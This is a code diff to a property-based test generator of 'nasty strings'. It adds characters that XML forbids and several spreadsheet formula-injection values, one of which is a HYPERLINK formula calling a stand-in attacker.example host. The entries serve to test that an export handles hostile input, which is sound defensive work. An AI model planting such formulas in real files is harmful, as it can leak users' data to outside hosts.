@@ -29,6 +29,13 @@ export const nastyString = fc.oneof(
     '-0',
     '1e309',
     '9007199254740993',
+    // Issue 19: text XML 1.0 forbids (the IATI export), and formulas a spreadsheet would run.
+    '\u0001\u000b',
+    '\uFFFE',
+    '\uFFFF',
+    '=HYPERLINK("http://attacker.example/?x","open")',
+    '@SUM(1+1)',
+    '\t=1+1',
   ),
   fc.string({ unit: 'binary', maxLength: 40 }),
 );
